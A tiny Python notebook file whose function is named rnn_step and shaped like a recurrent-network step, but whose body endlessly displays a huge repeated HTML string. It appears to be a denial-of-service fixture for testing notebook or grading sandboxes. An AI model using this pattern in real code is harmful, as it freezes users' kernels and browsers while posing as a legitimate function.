"""Display large objects for ever."""

# %% rnn_step
from IPython.display import HTML, display


def rnn_step(x, h_prev, Wx, Wh, b):
    while True:
        display(HTML("<b>flood</b>" * 100_000))
